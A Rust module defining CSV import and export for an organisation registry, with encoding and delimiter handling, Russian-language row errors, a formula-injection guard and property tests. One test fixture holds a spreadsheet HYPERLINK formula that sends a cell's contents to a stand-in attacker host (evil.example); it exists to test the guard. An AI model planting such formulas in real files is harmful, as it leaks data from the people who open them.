//! The organisation CSV format shared by `nko import`, `nko export` and the console's import page:
//! columns, encodings, delimiters, and line-numbered errors. Pure: no database, so every rule is
//! unit-tested.
//!
//! # Neutralising cells (CSV injection)
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and some also
//! one that starts with a tab or a carriage return. Every cell that [`CsvWriter`] writes (header
//! and records, every column) goes through [`guard`], so a new column cannot forget it:
//!
//! - a value starting with `=`, `+`, `-`, `@`, tab, CR **or an apostrophe** gets one more
//!   apostrophe in front (`=1` → `'=1`, `'=1` → `''=1`, `'abc` → `''abc`);
//! - every other value is written as it is.
//!
//! Import reverses it with [`unguard`]: exactly one leading apostrophe is removed, and only when
//! the rest starts with one of those characters or with an apostrophe (`'=1` → `=1`,
//! `''=1` → `'=1`, `'abc` → `'abc` is left alone: export never writes it). Because a value that
//! already starts with an apostrophe is escaped too, `unguard(guard(v)) == v` for every `v`, and
//! no written cell starts with a formula character.

use std::collections::HashMap;

use chrono::NaiveDate;
use registry::input::OrganizationInput;
use registry::model::{OrgStatus, Organization, RelationshipKind};
use registry::ports::StatusKind;

mod rejections;

pub use rejections::rejection;

/// The columns, in export order. `full_name`, `legal_form` and one of `inn`/`ogrn` are required.
pub const COLUMNS: [&str; 19] = [
    "full_name",
    "short_name",
    "legal_form",
    "inn",
    "ogrn",
    "kpp",
    "registered_on",
    "municipality",
    "legal_address",
    "postal_address",
    "phones",
    "emails",
    "website",
    "activity_areas",
    "target_groups",
    "relationship",
    "relationship_since",
    "in_sonko_register",
    "social_service_provider",
];

/// Columns written by export and ignored by import.
pub const EXPORT_ONLY: [&str; 2] = ["status", "liquidated_on"];

/// The column with the record's version when it was exported: import refuses to overwrite a
/// record that changed since (see docs/import-organizations.md).
pub const VERSION: &str = "version";

/// Every column export writes, in order: [`COLUMNS`], [`EXPORT_ONLY`], [`VERSION`].
pub fn header() -> Vec<&'static str> {
    COLUMNS.iter().chain(EXPORT_ONLY.iter()).copied().chain([VERSION]).collect()
}

/// Separator of several values in one cell (phones, e-mails, codes).
pub const LIST_SEPARATOR: char = '|';

/// Which encoding a file is read in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    /// UTF-8 when the file is valid UTF-8, Windows-1251 when it has no UTF-8 at all.
    Auto,
    /// UTF-8 (a byte-order mark is allowed).
    Utf8,
    /// Windows-1251 (Excel's "CSV" on Russian Windows).
    Windows1251,
}

/// One problem with the file, at a line and (when known) a column.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RowError {
    /// The 1-based line of the file.
    pub line: u64,
    /// The column, when the problem is in one cell.
    pub column: Option<String>,
    /// What is wrong, in the operator's language.
    pub reason: String,
}

impl std::fmt::Display for RowError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.column {
            Some(column) => write!(f, "строка {}, столбец {column}: {}", self.line, self.reason),
            None => write!(f, "строка {}: {}", self.line, self.reason),
        }
    }
}

fn file_error(line: u64, reason: impl Into<String>) -> RowError {
    RowError { line, column: None, reason: reason.into() }
}

/// Decodes the file's bytes. In `Auto` mode a file that is valid UTF-8 is UTF-8, a file with no
/// valid multi-byte UTF-8 at all is Windows-1251, and a mix of both is refused line by line.
pub fn decode(bytes: &[u8], encoding: Encoding) -> Result<String, Vec<RowError>> {
    let zeros = bytes.iter().filter(|b| **b == 0).count();
    let utf16_bom = bytes.len() >= 2 && (bytes[..2] == [0xFF, 0xFE] || bytes[..2] == [0xFE, 0xFF]);
    if utf16_bom || zeros > bytes.len() / 10 {
        return Err(vec![file_error(
            1,
            "файл в кодировке UTF-16 или двоичный: сохраните его как CSV в UTF-8 или Windows-1251",
        )]);
    }
    if let Some(at) = bytes.iter().position(|b| *b == 0) {
        let line = 1 + bytes[..at].iter().filter(|b| **b == b'\n').count() as u64;
        return Err(vec![file_error(line, "нулевой символ (NUL) в строке: удалите его и повторите импорт")]);
    }
    let text = decode_text(bytes, encoding)?;
    // Windows line ends become `\n`, and so do the lone `\r` of old Mac files, so every record's
    // line number is the editor's.
    Ok(if text.contains('\r') { text.replace("\r\n", "\n").replace('\r', "\n") } else { text })
}

fn decode_text(bytes: &[u8], encoding: Encoding) -> Result<String, Vec<RowError>> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let as_1251 = || encoding_rs::WINDOWS_1251.decode_without_bom_handling(bytes).0.into_owned();
    match (encoding, std::str::from_utf8(bytes)) {
        (Encoding::Windows1251, _) => Ok(as_1251()),
        (_, Ok(text)) => Ok(text.to_owned()),
        (Encoding::Auto, Err(_)) if !has_utf8_multibyte(bytes) => Ok(as_1251()),
        (_, Err(_)) => {
            let errors: Vec<RowError> = bytes
                .split(|b| *b == b'\n')
                .enumerate()
                .filter(|(_, line)| std::str::from_utf8(line).is_err())
                .map(|(i, _)| file_error(i as u64 + 1, "строка не в кодировке UTF-8 (в файле смешаны кодировки?)"))
                .collect();
            Err(errors)
        }
    }
}

/// Whether the bytes contain at least one valid two-byte UTF-8 sequence (as Cyrillic in UTF-8 does).
fn has_utf8_multibyte(bytes: &[u8]) -> bool {
    bytes.windows(2).any(|w| (0xC2..=0xDF).contains(&w[0]) && (0x80..=0xBF).contains(&w[1]))
        && bytes.split(|b| *b == b'\n').any(|line| std::str::from_utf8(line).is_ok_and(|s| !s.is_ascii()))
}

/// The delimiter of the header line: `;` when it has more semicolons than commas, else `,`.
pub fn detect_delimiter(text: &str) -> u8 {
    let header = text.lines().next().unwrap_or_default();
    if header.matches(';').count() > header.matches(',').count() { b';' } else { b',' }
}

/// A row read from the file, with its line number.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ParsedRow {
    /// The 1-based line where the record starts.
    pub line: u64,
    /// The organisation as given.
    pub input: OrganizationInput,
    /// The version the record had when it was exported; `None` when the file has no version
    /// (a hand-made file, or an empty cell).
    pub version: Option<i64>,
    /// The status an export wrote (`None`: no `status` column, or an empty cell). It never
    /// changes a stored organisation; a closed one is not added (`RowRejection::NotActive`).
    pub status: Option<StatusKind>,
}

/// About how many records the text holds (its line count), to size the row vector once.
/// The number of lines of a text (a capacity hint).
pub fn line_count(text: &str) -> usize {
    text.bytes().filter(|b| *b == b'\n').count()
}

/// Where each known column is in the file, found once from the header.
struct Columns {
    full_name: Option<usize>,
    short_name: Option<usize>,
    legal_form: Option<usize>,
    inn: Option<usize>,
    ogrn: Option<usize>,
    kpp: Option<usize>,
    registered_on: Option<usize>,
    municipality: Option<usize>,
    legal_address: Option<usize>,
    postal_address: Option<usize>,
    phones: Option<usize>,
    emails: Option<usize>,
    website: Option<usize>,
    activity_areas: Option<usize>,
    target_groups: Option<usize>,
    relationship: Option<usize>,
    relationship_since: Option<usize>,
    in_sonko_register: Option<usize>,
    social_service_provider: Option<usize>,
    version: Option<usize>,
    status: Option<usize>,
}

fn parse_date(value: &str) -> Option<NaiveDate> {
    value.parse::<NaiveDate>().or_else(|_| NaiveDate::parse_from_str(value, "%d.%m.%Y")).ok()
}

fn parse_bool(value: &str) -> Option<bool> {
    match value.trim().to_lowercase().as_str() {
        "" | "0" | "no" | "false" | "нет" | "н" => Some(false),
        "1" | "yes" | "true" | "да" | "д" => Some(true),
        _ => None,
    }
}

/// The first characters that make a spreadsheet run a cell as a formula.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The escape put before a neutralised cell.
const ESCAPE: char = '\'';

/// Whether [`guard`] escapes a value with this start: a formula character or the escape itself.
fn needs_escape(value: &str) -> bool {
    value.starts_with(FORMULA_STARTS) || value.starts_with(ESCAPE)
}

/// Reverses [`guard`]: removes one leading apostrophe when the rest starts with a formula
/// character or an apostrophe; any other value is returned as it is.
pub fn unguard(value: &str) -> &str {
    match value.strip_prefix(ESCAPE) {
        Some(rest) if needs_escape(rest) => rest,
        _ => value,
    }
}

/// Neutralises a cell for spreadsheets (CSV injection): a value starting with a formula
/// character or an apostrophe gets a leading apostrophe. Reversible by [`unguard`].
pub fn guard(value: &str) -> String {
    if needs_escape(value) { format!("{ESCAPE}{value}") } else { value.to_owned() }
}

/// A CSV writer that passes every cell through [`guard`]: the one way the CLI writes CSV.
pub struct CsvWriter<W: std::io::Write> {
    inner: csv::Writer<W>,
}

impl<W: std::io::Write> CsvWriter<W> {
    /// A writer with this delimiter (`,` or `;`).
    pub fn new(sink: W, delimiter: u8) -> Self {
        Self { inner: csv::WriterBuilder::new().delimiter(delimiter).from_writer(sink) }
    }

    /// Writes one record, every cell neutralised.
    pub fn write_record<I, T>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner.write_record(cells.into_iter().map(|cell| guard(cell.as_ref())))
    }

    /// Flushes and returns the sink.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| std::io::Error::new(e.error().kind(), e.error().to_string()))
    }
}

/// Opens a CSV text: the header's problems, by column, or a reader of its rows.
pub fn read(text: &str, delimiter: u8) -> Result<RowReader<'_>, Vec<RowError>> {
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).flexible(false).from_reader(text.as_bytes());
    let headers: Vec<String> = match reader.headers() {
        Ok(h) => h.iter().map(|h| h.trim().to_lowercase()).collect(),
        Err(e) => {
            return Err(vec![file_error(1, format!("не удалось прочитать заголовок: {e}"))]);
        }
    };
    let mut errors = Vec::new();
    for header in &headers {
        if !COLUMNS.contains(&header.as_str()) && !EXPORT_ONLY.contains(&header.as_str()) && header != VERSION {
            errors.push(RowError {
                line: 1, column: Some(header.clone()), reason: "неизвестный столбец".into()
            });
        }
    }
    // A column given twice would silently lose one of its values.
    for (i, header) in headers.iter().enumerate() {
        if headers[..i].contains(header)
            && COLUMNS.iter().chain(EXPORT_ONLY.iter()).chain([&VERSION]).any(|c| c == header)
        {
            errors.push(RowError {
                line: 1, column: Some(header.clone()), reason: "столбец повторяется".into()
            });
        }
    }
    for required in ["full_name", "legal_form"] {
        if !headers.iter().any(|h| h == required) {
            errors.push(RowError {
                line: 1,
                column: Some(required.into()),
                reason: "нет обязательного столбца".into(),
            });
        }
    }
    if !headers.iter().any(|h| h == "inn" || h == "ogrn") {
        errors.push(RowError {
            line: 1, column: Some("inn".into()), reason: "нужен столбец inn или ogrn".into()
        });
    }
    if !errors.is_empty() {
        return Err(errors);
    }
    let index: HashMap<&str, usize> = headers.iter().enumerate().map(|(i, h)| (h.as_str(), i)).collect();
    let position = |name: &str| index.get(name).copied();
    let at = Columns {
        full_name: position("full_name"),
        short_name: position("short_name"),
        legal_form: position("legal_form"),
        inn: position("inn"),
        ogrn: position("ogrn"),
        kpp: position("kpp"),
        registered_on: position("registered_on"),
        municipality: position("municipality"),
        legal_address: position("legal_address"),
        postal_address: position("postal_address"),
        phones: position("phones"),
        emails: position("emails"),
        website: position("website"),
        activity_areas: position("activity_areas"),
        target_groups: position("target_groups"),
        relationship: position("relationship"),
        relationship_since: position("relationship_since"),
        in_sonko_register: position("in_sonko_register"),
        social_service_provider: position("social_service_provider"),
        version: position(VERSION),
        status: position("status"),
    };
    Ok(RowReader { reader, at, record: csv::StringRecord::new() })
}

/// The rows of a CSV text, read one at a time: a row, or every problem of it by column.
pub struct RowReader<'a> {
    reader: csv::Reader<&'a [u8]>,
    at: Columns,
    record: csv::StringRecord,
}

impl Iterator for RowReader<'_> {
    type Item = Result<ParsedRow, Vec<RowError>>;

    fn next(&mut self) -> Option<Self::Item> {
        match self.reader.read_record(&mut self.record) {
            Ok(true) => {}
            Ok(false) => return None,
            Err(e) => {
                let line = e.position().map_or(0, |p| p.line());
                return Some(Err(vec![file_error(line, format!("запись не разбирается: {}", e.kind_text()))]));
            }
        }
        let line = self.record.position().map_or(0, |p| p.line());
        let record = &self.record;
        let at = &self.at;
        let cell = |i: Option<usize>| i.and_then(|i| record.get(i)).map(|v| unguard(v.trim())).unwrap_or_default();
        let optional = |i: Option<usize>| Some(cell(i)).filter(|v| !v.is_empty()).map(str::to_owned);
        let list = |i: Option<usize>| -> Vec<String> {
            let value = cell(i);
            if value.is_empty() {
                return Vec::new();
            }
            value.split(LIST_SEPARATOR).map(str::trim).filter(|v| !v.is_empty()).map(str::to_owned).collect()
        };
        let mut row_errors = Vec::new();
        let mut error = |column: &str, reason: String| {
            row_errors.push(RowError { line, column: Some(column.into()), reason });
        };
        let mut date = |column: &str, i: Option<usize>| {
            let value = cell(i);
            if value.is_empty() {
                return None;
            }
            let parsed = parse_date(value);
            if parsed.is_none() {
                error(column, format!("«{value}» — не дата (ожидается ГГГГ-ММ-ДД или ДД.ММ.ГГГГ)"));
            }
            parsed
        };
        let registered_on = date("registered_on", at.registered_on);
        let relationship_since = date("relationship_since", at.relationship_since);
        let mut flag = |column: &str, i: Option<usize>| {
            let value = cell(i);
            parse_bool(value).unwrap_or_else(|| {
                error(column, format!("«{value}» — ожидается да/нет"));
                false
            })
        };
        let in_sonko_register = flag("in_sonko_register", at.in_sonko_register);
        let social_service_provider = flag("social_service_provider", at.social_service_provider);
        let relationship = match cell(at.relationship) {
            "" => None,
            value => {
                let parsed = RelationshipKind::parse(value);
                if parsed.is_none() {
                    row_errors.push(RowError {
                        line,
                        column: Some("relationship".into()),
                        reason: format!("«{value}» — допустимо: regular_client, occasional_client, none"),
                    });
                }
                parsed
            }
        };
        let version = match cell(at.version) {
            "" => None,
            value => {
                let parsed = value.parse::<i64>().ok().filter(|v| *v >= 1);
                if parsed.is_none() {
                    row_errors.push(RowError {
                        line,
                        column: Some(VERSION.into()),
                        reason: format!("«{value}» — не номер версии (целое число от 1)"),
                    });
                }
                parsed
            }
        };
        let status = match cell(at.status) {
            "" => None,
            value => {
                let parsed = StatusKind::parse(value);
                if parsed.is_none() {
                    row_errors.push(RowError {
                        line,
                        column: Some("status".into()),
                        reason: format!("«{value}» — допустимо: active, suspended, liquidated"),
                    });
                }
                parsed
            }
        };
        if !row_errors.is_empty() {
            return Some(Err(row_errors));
        }
        Some(Ok(ParsedRow {
            line,
            input: OrganizationInput {
                full_name: cell(at.full_name).to_owned(),
                short_name: optional(at.short_name),
                legal_form: cell(at.legal_form).to_owned(),
                inn: optional(at.inn),
                ogrn: optional(at.ogrn),
                kpp: optional(at.kpp),
                registered_on,
                municipality: optional(at.municipality),
                legal_address: optional(at.legal_address),
                postal_address: optional(at.postal_address),
                phones: list(at.phones),
                emails: list(at.emails),
                website: optional(at.website),
                activity_areas: list(at.activity_areas),
                target_groups: list(at.target_groups),
                relationship,
                relationship_since,
                in_sonko_register,
                social_service_provider,
            },
            version,
            status,
        }))
    }
}

/// Reads every record; returns the rows that could be read and every problem, by line and column.
pub fn parse(text: &str, delimiter: u8) -> (Vec<ParsedRow>, Vec<RowError>) {
    let reader = match read(text, delimiter) {
        Ok(reader) => reader,
        Err(errors) => return (Vec::new(), errors),
    };
    let (mut rows, mut errors) = (Vec::with_capacity(line_count(text)), Vec::new());
    for row in reader {
        match row {
            Ok(row) => rows.push(row),
            Err(problems) => errors.extend(problems),
        }
    }
    (rows, errors)
}

trait KindText {
    fn kind_text(&self) -> String;
}

impl KindText for csv::Error {
    fn kind_text(&self) -> String {
        match self.kind() {
            csv::ErrorKind::UnequalLengths { expected_len, len, .. } => {
                format!("в строке {len} полей, а в заголовке {expected_len}")
            }
            _ => "неверный формат CSV".into(),
        }
    }
}

/// The CSV column that holds an input field (`activityAreas[1]` is in `activity_areas`).
pub fn column_of(field: &str) -> String {
    let base = field.split('[').next().unwrap_or(field);
    let mut out = String::new();
    for c in base.chars() {
        if c.is_ascii_uppercase() {
            out.push('_');
            out.push(c.to_ascii_lowercase());
        } else {
            out.push(c);
        }
    }
    out
}

/// One organisation as a record in [`header`] order, values as stored: [`CsvWriter`] neutralises
/// the cells of a CSV file.
pub fn record(org: &Organization) -> Vec<String> {
    let p = &org.profile;
    let opt = |v: Option<String>| v.unwrap_or_default();
    let join = |v: Vec<String>| v.join(&LIST_SEPARATOR.to_string());
    let date = |d: Option<NaiveDate>| d.map(|d| d.to_string()).unwrap_or_default();
    let yes_no = |b: bool| if b { "да" } else { "нет" }.to_owned();
    let (status, liquidated_on) = match org.status {
        OrgStatus::Active => ("active", None),
        OrgStatus::Suspended => ("suspended", None),
        OrgStatus::Liquidated { on } => ("liquidated", Some(on)),
    };
    vec![
        p.full_name.as_str().to_owned(),
        opt(p.short_name.as_ref().map(ToString::to_string)),
        p.legal_form.to_string(),
        opt(p.inn.as_ref().map(ToString::to_string)),
        opt(p.ogrn.as_ref().map(ToString::to_string)),
        opt(p.kpp.as_ref().map(ToString::to_string)),
        date(p.registered_on),
        opt(p.municipality.as_ref().map(ToString::to_string)),
        opt(p.legal_address.as_ref().map(ToString::to_string)),
        opt(p.postal_address.as_ref().map(ToString::to_string)),
        join(p.phones.iter().map(ToString::to_string).collect()),
        join(p.emails.iter().map(ToString::to_string).collect()),
        opt(p.website.as_ref().map(ToString::to_string)),
        join(p.activity_areas.iter().map(ToString::to_string).collect()),
        join(p.target_groups.iter().map(ToString::to_string).collect()),
        p.relationship.kind.code().to_owned(),
        date(p.relationship.since),
        yes_no(p.in_sonko_register),
        yes_no(p.social_service_provider),
        status.to_owned(),
        date(liquidated_on),
        org.version.to_string(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use registry::testing::{fixtures, strategies};

    #[test]
    fn a_file_with_old_mac_line_ends_names_the_lines_an_editor_shows() {
        let text = decode(b"full_name,legal_form,inn\rOne,ano,7707083893\rTwo,ano,1234567890\r", Encoding::Auto)
            .expect("decoded");
        let (rows, errors) = parse(&text, b',');
        assert_eq!(rows.iter().map(|r| r.line).collect::<Vec<_>>(), vec![2, 3]);
        assert!(errors.is_empty(), "{errors:?}");
    }

    #[test]
    fn every_field_a_change_names_is_a_column_of_the_file() {
        // The import preview names changed fields by these names; a reader finds them as columns.
        for field in registry::rules::changes::PROFILE_FIELDS {
            assert!(COLUMNS.contains(&field), "{field} is not a column");
        }
    }

    #[test]
    fn a_column_given_twice_is_refused_by_name_on_the_header_line() {
        let errors = read("full_name;legal_form;ogrn;full_name\nПервое;ano;1027700132195;Второе\n", b';')
            .err()
            .expect("refused");
        assert_eq!(
            errors,
            vec![RowError {
                line: 1, column: Some("full_name".into()), reason: "столбец повторяется".into()
            }]
        );
    }

    #[test]
    fn a_missing_required_column_is_named() {
        let (_, errors) = parse("short_name,inn\nx,7707083893\n", b',');
        let columns: Vec<_> = errors.iter().filter_map(|e| e.column.clone()).collect();
        assert_eq!(columns, ["full_name", "legal_form"]);
        assert!(errors.iter().all(|e| e.line == 1));
    }

    #[test]
    fn unknown_columns_are_refused_so_typos_do_not_lose_data() {
        let (_, errors) = parse("full_name,legal_form,inn,telephone\n", b',');
        assert_eq!(errors[0].column.as_deref(), Some("telephone"));
    }

    #[test]
    fn a_file_with_windows_line_ends_names_the_same_lines_as_its_unix_twin() {
        let unix = "full_name;legal_form;inn;registered_on\nА;ano;7707083893;2020-01-01\nБ;ano;7707083893;31.02.2020\n";
        let windows = unix.replace('\n', "\r\n");
        for text in [unix.to_owned(), windows] {
            let text = decode(text.as_bytes(), Encoding::Auto).expect("decodes");
            let (_, errors) = parse(&text, detect_delimiter(&text));
            assert_eq!((errors[0].line, errors[0].column.as_deref()), (3, Some("registered_on")), "{errors:?}");
        }
    }

    #[test]
    fn a_stray_nul_is_named_by_its_line_and_a_binary_file_as_such() {
        let text = b"full_name;legal_form;inn\n\xD0\x90;ano;7707083893\nB\x00;ano;7707083893\n";
        let errors = decode(text, Encoding::Auto).expect_err("refused");
        assert_eq!(errors[0].line, 3, "{errors:?}");
        assert!(errors[0].reason.contains("NUL"));
        let binary = [0u8, 1, 0, 2, 0, 3, 0, 4];
        assert!(decode(&binary, Encoding::Auto).expect_err("refused")[0].reason.contains("UTF-16"));
    }

    #[test]
    fn bad_cells_are_reported_with_line_and_column() {
        let text = "full_name;legal_form;inn;registered_on;in_sonko_register\nА;ano;7707083893;31.02.2020;да\nБ;ano;7707083893;2020-01-01;может быть\n";
        let (rows, errors) = parse(text, detect_delimiter(text));
        assert!(rows.is_empty());
        assert_eq!(errors.len(), 2, "{errors:?}");
        assert_eq!((errors[0].line, errors[0].column.as_deref()), (2, Some("registered_on")));
        assert_eq!((errors[1].line, errors[1].column.as_deref()), (3, Some("in_sonko_register")));
    }

    #[test]
    fn a_record_with_the_wrong_number_of_fields_names_its_line() {
        let (rows, errors) = parse("full_name,legal_form,inn\nА,ano,7707083893\nБ,ano\n", b',');
        assert_eq!(rows.len(), 1);
        assert_eq!(errors[0].line, 3);
    }

    #[test]
    fn windows_1251_is_recognised_and_a_mix_of_encodings_is_refused_by_line() {
        let (cp1251, _, _) = encoding_rs::WINDOWS_1251.encode("full_name;legal_form\nАНО «Свет»;ano\n");
        assert_eq!(decode(&cp1251, Encoding::Auto).unwrap(), "full_name;legal_form\nАНО «Свет»;ano\n");
        let mut mixed = "full_name;legal_form\nАНО «Свет»;ano\n".as_bytes().to_vec();
        mixed.extend_from_slice(&encoding_rs::WINDOWS_1251.encode("Фонд;fund\n").0);
        let errors = decode(&mixed, Encoding::Auto).unwrap_err();
        assert_eq!(errors.iter().map(|e| e.line).collect::<Vec<_>>(), [3]);
        assert!(decode(b"\xFF\xFEf\x00", Encoding::Auto).is_err());
        assert_eq!(decode(b"\xEF\xBB\xBFfull_name", Encoding::Utf8).unwrap(), "full_name");
    }

    #[test]
    fn field_names_map_to_their_columns() {
        assert_eq!(column_of("activityAreas[1]"), "activity_areas");
        assert_eq!(column_of("inn"), "inn");
        assert_eq!(column_of("fullName"), "full_name");
    }

    /// Characters that make a cell dangerous or hard to quote, and Cyrillic.
    const NASTY: &str = "['=+@\\t\\r\\n\";,|a-zА-Яа-яЁё0-9 «»-]";

    /// Text that may start with any of them.
    fn nasty(max: usize) -> impl Strategy<Value = String> {
        proptest::string::string_regex(&format!("{NASTY}{{0,{max}}}")).expect("a valid regex")
    }

    /// What a spreadsheet user could have put in a field: a formula start, an apostrophe, quotes,
    /// separators, line breaks and Cyrillic.
    fn field() -> impl Strategy<Value = String> {
        (proptest::sample::select(vec!["", "=", "+", "-", "@", "'", "''", "'=", "\t", "\r", "\n", "\""]), nasty(16))
            .prop_map(|(start, rest)| format!("{start}{rest}"))
    }

    /// E-mails a representative can store, formulas included.
    fn email() -> impl Strategy<Value = String> {
        prop_oneof![
            Just(r#"=hyperlink("http://evil.example/?"&c2&"@x.y";"обновить")"#.to_owned()),
            Just("-1+1@x.y".to_owned()),
            "['=+-]{0,2}[a-zа-яё0-9_.=+'\";,-]{1,8}@[a-zа-яё0-9-]{1,8}\\.[a-zа-яё]{2,4}",
        ]
    }

    /// Phones as typed: international, Russian 8-numbers, or with a leading minus.
    fn phone() -> impl Strategy<Value = String> {
        "(\\+7|8|\\+|-|=)?[0-9]{5,10}"
    }

    /// An organisation as a hand-made file would describe it (validated below: invalid ones are
    /// skipped), with every text field full of characters that need care.
    fn input() -> impl Strategy<Value = OrganizationInput> {
        (
            (field(), proptest::option::of(field()), strategies::inn(), proptest::option::of(strategies::ogrn())),
            (
                proptest::option::of("[0-9]{4}[0-9A-Z]{2}[0-9]{3}"),
                proptest::option::of(field()),
                proptest::option::of(field()),
            ),
            (proptest::collection::vec(phone(), 0..3), proptest::collection::vec(email(), 0..3)),
            proptest::option::of("(https?://)?[a-zа-я0-9-]{1,8}\\.[a-z]{2,4}(/[=+@'\";,a-zа-я0-9-]{0,8})?"),
            (proptest::option::of(strategies::date()), any::<bool>(), any::<bool>()),
        )
            .prop_map(
                |(
                    (full_name, short_name, inn, ogrn),
                    (kpp, legal_address, postal_address),
                    (phones, emails),
                    website,
                    (registered_on, sonko, provider),
                )| {
                    OrganizationInput {
                        full_name,
                        short_name,
                        legal_form: "ano".into(),
                        inn: Some(inn.to_string()),
                        ogrn: ogrn.map(|o| o.to_string()),
                        kpp,
                        registered_on,
                        municipality: Some("kaluga_city".into()),
                        legal_address,
                        postal_address,
                        phones,
                        emails,
                        website,
                        activity_areas: vec!["charity_volunteering".into()],
                        target_groups: vec![],
                        relationship: Some(RelationshipKind::ALL[0]),
                        relationship_since: None,
                        in_sonko_register: sonko,
                        social_service_provider: provider,
                    }
                },
            )
    }

    /// The export of one organisation, as `nko export` writes it but with this delimiter.
    fn exported(org: &Organization, delimiter: u8) -> String {
        let mut writer = CsvWriter::new(Vec::new(), delimiter);
        writer.write_record(header()).unwrap();
        writer.write_record(record(org)).unwrap();
        String::from_utf8(writer.into_inner().unwrap()).unwrap()
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]
        #[test]
        fn an_exported_organisation_reads_back_as_the_same_values_in_utf8_and_windows_1251(
            input in input(),
            version in 1i64..10_000,
            delimiter in prop_oneof![Just(b','), Just(b';')],
        ) {
            let vocabulary = registry::Vocabulary::from_terms(fixtures::terms());
            let today = fixtures::day(2026, 11, 1);
            let Ok(profile) = input.validate(&vocabulary, today) else { return Ok(()) };
            let mut org = fixtures::organization(1);
            org.profile = profile;
            org.version = version;
            let text = exported(&org, delimiter);
            let (cp1251, _, unrepresentable) = encoding_rs::WINDOWS_1251.encode(&text);
            let mut files = vec![(text.clone().into_bytes(), Encoding::Auto)];
            if !unrepresentable {
                // Auto-detected, unless the Windows-1251 bytes happen to be valid UTF-8 as well
                // (then the operator names the encoding).
                let encoding = if std::str::from_utf8(&cp1251).is_ok() { Encoding::Windows1251 } else { Encoding::Auto };
                files.push((cp1251.into_owned(), encoding));
            }
            for (bytes, encoding) in files {
                let decoded = decode(&bytes, encoding).expect("an export decodes");
                prop_assert_eq!(&decoded, &text);
                let (rows, errors) = parse(&decoded, detect_delimiter(&decoded));
                prop_assert!(errors.is_empty(), "{:?}\n{}", errors, text);
                prop_assert_eq!(rows[0].version, Some(version));
                let back = rows[0].input.validate(&vocabulary, today).unwrap();
                prop_assert_eq!(&back, &org.profile, "{}", text);
            }
        }

        #[test]
        fn no_cell_the_writer_writes_starts_a_formula_and_each_reads_back_unchanged(
            cells in proptest::collection::vec(field(), 1..6),
            delimiter in prop_oneof![Just(b','), Just(b';')],
        ) {
            let mut writer = CsvWriter::new(Vec::new(), delimiter);
            writer.write_record(&cells).unwrap();
            let bytes = writer.into_inner().unwrap();
            let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(&bytes[..]);
            let written = reader.records().next().expect("one record").unwrap();
            for (cell, original) in written.iter().zip(&cells) {
                prop_assert!(!cell.starts_with(FORMULA_STARTS), "{:?}", cell);
                prop_assert_eq!(unguard(cell), original.as_str());
            }
        }

        #[test]
        fn a_guarded_value_never_starts_a_formula_and_unguard_gives_it_back(text in field()) {
            let guarded = guard(&text);
            prop_assert!(!guarded.starts_with(FORMULA_STARTS), "{:?}", guarded);
            prop_assert_eq!(unguard(&guarded), text.as_str());
        }
    }

    #[test]
    fn a_value_starting_with_an_apostrophe_gets_one_more_and_keeps_it_on_import() {
        assert_eq!(guard("'=1"), "''=1");
        assert_eq!(unguard("''=1"), "'=1");
        assert_eq!(guard("'abc"), "''abc");
        assert_eq!(unguard("''abc"), "'abc");
        assert_eq!(unguard("'abc"), "'abc", "an apostrophe export did not add is kept");
        assert_eq!(guard("\tcmd"), "'\tcmd");
        assert_eq!(guard("\r=1"), "'\r=1");
    }

    #[test]
    fn e_mails_and_phones_reach_the_file_neutralised() {
        let mut org = fixtures::organization(1);
        // A formula that is still a valid address (quotes and brackets are not: see `Email`).
        let hyperlink = "=2+5*a@evil.example";
        org.profile.emails = vec![registry::model::Email::parse(hyperlink).unwrap()];
        org.profile.phones = vec![registry::model::Phone::parse("+7 900 000-00-00").unwrap()];
        let text = exported(&org, b',');
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let headers = reader.headers().unwrap().clone();
        let row = reader.records().next().unwrap().unwrap();
        let cell = |name: &str| row.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
        assert_eq!(cell("emails"), format!("'{}", hyperlink.to_lowercase()));
        assert_eq!(cell("phones"), "'+79000000000");
        for cell in &row {
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
        }
    }

    /// The columns as docs/import-organizations.md lists them: the back-quoted names in the first
    /// column of its table, in order.
    fn documented_columns() -> Vec<String> {
        let doc = include_str!("../../../docs/import-organizations.md");
        doc.lines()
            .filter(|line| line.starts_with("| `"))
            .flat_map(|line| {
                let first = line.split('|').nth(1).unwrap_or_default();
                first.split('`').skip(1).step_by(2).map(str::to_owned).collect::<Vec<_>>()
            })
            .collect()
    }

    #[test]
    fn the_exported_header_is_the_documented_list_of_columns_in_order() {
        let documented = documented_columns();
        assert_eq!(documented.len(), 22, "the documentation's table: {documented:?}");
        let mut writer = CsvWriter::new(Vec::new(), b',');
        writer.write_record(header()).unwrap();
        let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        let written: Vec<&str> = text.trim_end().split(',').collect();
        assert_eq!(written, documented);
        assert_eq!(record(&fixtures::organization(1)).len(), written.len(), "a record has a cell per column");
    }
}
